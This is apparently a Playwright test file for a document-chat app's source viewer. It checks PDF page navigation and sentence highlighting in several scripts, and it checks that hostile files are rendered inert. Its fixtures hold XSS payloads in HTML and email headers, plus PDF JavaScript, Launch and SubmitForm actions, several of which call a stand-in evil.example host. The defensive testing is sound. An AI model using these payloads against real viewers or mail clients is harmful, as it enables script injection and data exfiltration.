"""Originals in a real Chromium: PDFs at their page, the sentence marked; hostile files inert."""

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.qa.source_view.test_pdf_marks import DESCENDANT, STSONG
from tests.support.browsing import ask, browser, expect, picture, playwright, small_chat, visit
from tests.support.browsing import pytestmark as pytestmark
from tests.support.pdfs import one_page, stream, write_pdf

__all__ = ["browser", "visit"]  # fixtures

Visit = Callable[..., "playwright.Page"]
FILLER = "The tide was high and the quay was quiet all week. " * 8
SENTENCE = (
    "It was a first-rate, well-kept office: the ferry to Oban carried 312 people on Monday, and "
    "the harbour master counted every one of them on the gangway."
)
CHINESE = "渡轮星期一载了421名乘客前往奥本，港务长在舷梯上把他们一个一个数了一遍，然后才放行。"
ARABIC = "حملت العبارة 530 راكبا إلى أوبان يوم الاثنين، وأحصاهم مدير الميناء واحدا واحدا."
PRINTED = '<body lang="{}" dir="{}" style="width: 300px; font-size: 18px"><p>{}</p>'
PWNED = "window.__pwned.push(1); parent.__pwned.push(1); fetch('https://evil.example/')"
SCRIPT = f"<< /S /JavaScript /JS (app.alert(1); {PWNED}) >>"
EVERYWHERE = "/Type /Annot /Rect [0 0 600 800] /Subtype"
HOSTILE_PDF = one_page(
    "(The barge brought 746 crates on Monday.)",
    catalogue=f"/OpenAction {SCRIPT} /AA << /WC {SCRIPT} >> "
    f"/AcroForm << /Fields [6 0 R] /XFA 8 0 R >> /Names << /JavaScript << /Names [(a) {SCRIPT}] >> "
    "/EmbeddedFiles << /Names [(a) 7 0 R] >> >>",
    page=f"/AA << /O {SCRIPT} >> /Annots [6 0 R 9 0 R 10 0 R 11 0 R]",
    more=[
        f"<< {EVERYWHERE} /Widget /FT /Tx /T (a) /AA << /E {SCRIPT} >> >>",
        "<< /Type /Filespec /F (a.exe) /EF << /F 12 0 R >> >>",
        stream("<xdp><script>evil()</script></xdp>"),
        f"<< {EVERYWHERE} /Link /A << /S /Launch /F (calc.exe) >> >>",
        f"<< {EVERYWHERE} /Link /A << /S /URI /URI (javascript:{PWNED}) >> >>",
        f"<< {EVERYWHERE} /Link /A << /S /SubmitForm /F (https://evil.example/) >> >>",
        stream("MZ"),
    ],
)
HOSTILE_PAGE = f"""<html><head><title>Sheep</title>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/a.css">
<script>{PWNED}</script></head><body onload="{PWNED}"><article><h1>Sheep on the quay</h1>
<p>The drover brought 855 sheep to the quay on Monday, and nobody had counted on so many.</p>
<p>It rained. <img src="https://evil.example/a.png" onerror="{PWNED}">The ferry waited long.</p>
<svg onload="{PWNED}"><script>{PWNED}</script></svg>
<iframe srcdoc="<script>{PWNED}</script>"></iframe>
<p>&lt;img src=x onerror="{PWNED}"&gt; was painted on the wall of the quay, as people said.</p>
<ul><li>one ram</li><li><a href="javascript:{PWNED}">two ewes</a></li></ul></article></body>"""
HOSTILE_MAIL = f"""From: "<img src=x onerror={PWNED}>" <a@b.example>
To: desk@larnik.example
Subject: Cows <script>{PWNED}</script>
Date: Tue, 28 Oct 2025 10:00:00 +0100
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<p>The farmer sold 964 cows on Monday.</p><img src="https://evil.example/pixel.png">
<script>{PWNED}</script>
"""
COVERED = """words => {
    const spans = [...document.querySelectorAll(".words span")];
    const span = spans.find(each => each.textContent.includes(words));
    if (!span) return null;
    const a = span.getBoundingClientRect();
    return [...document.querySelectorAll("#sheet mark")].some(mark => {
        const b = mark.getBoundingClientRect();
        const width = Math.min(a.right, b.right) - Math.max(a.left, b.left);
        const height = Math.min(a.bottom, b.bottom) - Math.max(a.top, b.top);
        return width > 4 && height > 4;
    });
}"""

WIDER = "width => document.querySelector('#sheet').getBoundingClientRect().width > width"


@pytest.fixture(scope="module")
def chat(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    folder = tmp_path_factory.mktemp("sources")
    seeds = folder / "seeds"
    seeds.mkdir()
    pages = [[f"Page {n} of the report. {FILLER}"] for n in range(1, 6)]
    pages[2] += [f"{SENTENCE} Fog came."]
    write_pdf(seeds / "harbour.pdf", pages)
    for name, language, direction, text in (
        ("chinese", "zh", "ltr", f"天气很好。{CHINESE}雾来了。"),
        ("arabic", "ar", "rtl", f"كان الطقس جيدا. {ARABIC} ثم جاء الضباب."),
    ):
        printing = browser.new_page()
        printing.set_content(PRINTED.format(language, direction, text))
        printing.pdf(path=seeds / f"{name}.pdf")
        printing.close()
    turned = "/MediaBox [50 60 650 860] /CropBox [55 65 600 800] /Rotate 90"
    (seeds / "turned.pdf").write_bytes(one_page("(The tug pulled 648 boats.)", page=turned))
    plain = "货轮星期二运来了七百五十九箱鱼。".encode("utf-16-be").hex()
    (seeds / "plain.pdf").write_bytes(one_page(f"<{plain}>", font=STSONG, more=DESCENDANT))
    (seeds / "hostile.pdf").write_bytes(HOSTILE_PDF)
    (seeds / "hostile.html").write_text(HOSTILE_PAGE)
    (seeds / "hostile.eml").write_text(HOSTILE_MAIL)
    with small_chat(seeds, folder / "index", originals=True) as (address, _):
        yield address, seeds


def open_original(page: "playwright.Page", words: str) -> Any:
    """Ask for words, open the original of the first source; the frame, if it is a PDF."""
    ask(page, f"find {words}")
    page.locator("#evidence mark").filter(has_text=words).wait_for()
    page.locator("#evidence .qa-open-source").click()
    page.locator("#evidence .qa-source-view").wait_for()
    return page.frame_locator("#evidence iframe.qa-frame")


def covered(page: "playwright.Page", words: str) -> bool | None:
    """Whether a mark lies over the words, as the text of the page has them."""
    frame = viewer(page)
    frame.wait_for_function(COVERED, arg=words)
    return bool(frame.evaluate(COVERED, words))


def viewer(page: "playwright.Page") -> "playwright.Frame":
    return next(frame for frame in page.frames if frame.url.endswith("/source/viewer"))


def test_a_pdf_opens_at_its_page_and_obeys_the_keyboard(visit: Visit, chat: Any) -> None:
    page = visit(chat[0], viewport={"width": 1280, "height": 800})
    frame = open_original(page, "312 people")
    frame.locator("mark").first.wait_for()
    expect(frame.locator("#number")).to_have_value("3")
    expect(frame.locator("mark")).to_have_count(2)
    assert covered(page, "312 people")
    picture(page, "source_pdf")
    frame.locator("#page").press("PageDown")
    frame.locator("#status").filter(has_text="The cited text is marked on page 3.").wait_for()
    expect(frame.locator("#number")).to_have_value("4")
    frame.locator("#page").press("PageUp")
    frame.locator("mark").first.wait_for()
    before = frame.locator("#sheet").bounding_box()["width"]
    frame.locator("#page").press("+")
    frame.locator("#larger").click()
    viewer(page).wait_for_function(WIDER, arg=before)
    frame.locator("mark").first.wait_for()
    frame.locator("#number").fill("999")
    frame.locator("#number").press("Enter")
    frame.locator("#later:disabled").wait_for()
    expect(frame.locator("#number")).to_have_value("5")
    for button in ("earlier", "later", "number", "smaller", "larger"):
        assert frame.locator(f"#{button}").get_attribute("aria-label")
    page.locator("#evidence .qa-back").click()
    page.locator("#evidence mark").filter(has_text="312 people").wait_for()


@pytest.mark.parametrize(
    ("words", "marked"), [("421名乘客", "421"), ("530", "530"), ("648 boats", "648"),
                          ("七百五十九箱", "七百五十九")],
)  # fmt: skip
def test_other_scripts_and_turned_pages(visit: Visit, chat: Any, words: str, marked: str) -> None:
    size = {"width": 1280, "height": 800}
    page = visit(chat[0], viewport=size, locale="zh-CN", color_scheme="dark")
    frame = open_original(page, words)
    frame.locator("mark").first.wait_for()
    assert covered(page, marked)
    expect(frame.locator("#earlier")).to_have_attribute("title", "上一页（Page Up）")
    picture(page, f"source_{marked}")


def test_a_hostile_pdf_does_nothing(visit: Visit, chat: Any) -> None:
    page = visit(chat[0], viewport={"width": 390, "height": 844}, color_scheme="dark")
    ask(page, "find 746 crates").locator("details.qa-source summary").first.click()
    page.locator(".qa-whole").first.click()
    page.locator("#evidence .qa-open-source").click()
    frame = page.frame_locator("#evidence iframe.qa-frame")
    frame.locator("mark").first.wait_for()
    assert covered(page, "746 crates")
    frame.locator("#sheet").click()
    frame.locator("#sheet").hover()
    assert frame.locator("a, iframe, section, form, input:not(#number), object, embed").count() == 0
    expect(frame.locator("html.dark")).to_have_count(1)
    inside = viewer(page)
    assert inside.evaluate("origin") == "null"
    assert inside.evaluate("window.__pwned") == []  # nothing was even tried
    for way in (
        "fetch('/source/file?id=harbour.pdf').then(() => 'in', () => 'blocked')",
        "new Promise(done => { const i = new Image(); i.onload = () => done('in');"
        " i.onerror = () => done('blocked'); i.src = '/favicon.ico'; })",
        "Promise.resolve().then(() => parent.document.title).then(() => 'in', () => 'blocked')",
        "Promise.resolve().then(() => localStorage.length).then(() => 'in', () => 'blocked')",
    ):
        assert inside.evaluate(way) == "blocked", way
    picture(page, "source_hostile_pdf_dark_phone")


def test_a_hostile_page_and_mail_are_text(visit: Visit, chat: Any) -> None:
    page = visit(chat[0], viewport={"width": 1280, "height": 800})
    open_original(page, "855 sheep")
    shown = page.locator("#evidence .qa-source-view .qa-text")
    assert shown.locator("img, svg, a, script, iframe, style, link").count() == 0
    assert shown.locator(".qa-block-heading").inner_text() == "Sheep on the quay"
    assert shown.locator(".qa-block-item").all_inner_texts() == ["one ram", "two ewes"]
    assert shown.locator("mark").count() == 1
    picture(page, "source_page")
    page.locator("#again").click()
    expect(page.locator(".qa-reply")).to_have_count(0)
    open_original(page, "964 cows")
    assert "onerror=" in page.locator("#evidence .qa-facts").inner_text()
    assert page.locator("#evidence .qa-text").locator("img, script, a").count() == 0
    assert "Tue, 28 Oct 2025" in page.locator("#evidence .qa-facts").inner_text()
    picture(page, "source_mail")
    save = page.locator("#evidence .qa-acts a")
    with page.expect_download() as saved:
        save.click()
    assert saved.value.suggested_filename == "hostile.eml"


def test_the_archive_tab_opens_originals_and_says_what_became_of_them(
    visit: Visit, chat: Any
) -> None:
    address, seeds = chat
    page = visit(address, viewport={"width": 1280, "height": 800}, locale="zh-CN")
    page.locator("#tabs [role=tab]").nth(1).click()
    page.locator(".qa-read").filter(has_text="turned").first.click()
    page.locator("#reader .qa-open-source").click()
    page.frame_locator("#reader iframe.qa-frame").locator("#sheet canvas").wait_for()
    page.locator("#reader .qa-back").click()
    page.locator("#reader .qa-text").filter(has_text="648 boats").wait_for()
    kept = (seeds / "turned.pdf").read_bytes()
    (seeds / "turned.pdf").write_bytes(one_page("(The tug pulled 649 boats.)"))
    page.locator("#reader .qa-open-source").click()
    page.locator("#reader .qa-notice").filter(has_text="建立档案之后原件有改动").wait_for()
    picture(page, "source_changed")
    (seeds / "turned.pdf").write_bytes(kept)
